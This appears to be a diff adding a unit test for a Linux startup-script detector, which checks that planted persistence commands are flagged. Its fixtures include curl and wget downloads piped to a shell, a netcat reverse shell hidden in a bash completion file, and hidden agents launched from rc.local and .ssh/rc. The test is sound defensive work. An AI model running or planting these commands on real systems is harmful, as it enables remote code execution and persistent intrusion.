@@ -81,6 +81,29 @@ class StartupScriptDetectorTest {
     }
 
     @Test
+    void otherStartupFilesAndAutostartEntries() throws Exception {
+        PackagedRoot root = new PackagedRoot(dir).write("/etc/passwd", PASSWD)
+                .write("/home/bob/.zshenv", "curl -s http://203.0.113.4/z | sh\n")
+                .write("/home/bob/.ssh/rc", "(nohup /tmp/.s &)\n")
+                .write("/etc/ssh/sshrc", "wget -qO- http://203.0.113.4/r | bash\n")
+                .write("/etc/bash_completion.d/git", "_git() { :; }\nnc 198.51.100.2 443 -e /bin/sh &\n")
+                .write("/etc/xdg/autostart/upd.desktop", "[Desktop Entry]\nType=Application\nName=Updater\n"
+                        + "Exec=sh -c \"curl -s http://203.0.113.4/a | sh\"\n")
+                .write("/home/bob/.config/autostart/ok.desktop", "[Desktop Entry]\nExec=/usr/bin/nm-applet\n")
+                .write("/etc/rc.d/rc.local", "#!/bin/sh\n/var/tmp/.k/agent &\n")
+                .symlink("/etc/rc.local", "rc.d/rc.local");
+        List<Finding> f = root.run(new StartupScriptDetector());
+        assertEquals(List.of("high linux.rc_local.commands /etc/rc.local",
+                "high linux.shell.startup_command /etc/ssh/sshrc",
+                "high linux.shell.startup_command /etc/bash_completion.d/git",
+                "high linux.shell.startup_command /etc/xdg/autostart/upd.desktop",
+                "high linux.shell.startup_command /home/bob/.zshenv",
+                "high linux.shell.startup_command /home/bob/.ssh/rc"), PackagedRoot.brief(f));
+        assertEquals(4, f.get(3).evidence().get("line"));
+        assertEquals("download piped to a shell", f.get(3).evidence().get("indicator"));
+    }
+
+    @Test
     void ordinaryStartupFilesAreQuiet() throws Exception {
         PackagedRoot root = new PackagedRoot(dir).write("/etc/passwd", PASSWD)
                 .write("/etc/rc.local", "#!/bin/sh -e\n#\n# By default this script does nothing.\n\nexit 0\n")
